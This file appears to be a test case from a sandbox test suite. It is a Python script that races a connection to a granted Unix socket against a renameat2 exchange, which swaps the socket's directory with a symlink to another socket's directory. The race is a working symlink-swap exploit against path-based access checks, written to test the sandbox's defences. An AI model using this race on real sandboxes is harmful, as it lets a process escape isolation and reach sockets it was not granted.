# SPDX-License-Identifier: Apache-2.0
# attack: a granted socket's directory changes places with a link while it is connected to
# class: net
# wins: net
# needs: race write
# options: --connect unix:%A/work/d/s
from kit import *

import socket
work = os.path.dirname(BOX) + '/work'
os.mkdir(work + '/d')
os.symlink(os.path.dirname(F['unix']), work + '/e')
stop = []


def swap():
    while not stop:
        sc('renameat2', AT_FDCWD, os.fsencode(work + '/d'), AT_FDCWD, os.fsencode(work + '/e'), 2)


tried()
thread = threading.Thread(target=swap)
thread.start()


def one(i):
    try:
        socket.socket(socket.AF_UNIX).connect(work + '/d/s')
    except OSError:
        pass
    return NATIVE and i > 2000


rounds(one)
stop.append(1)
thread.join()
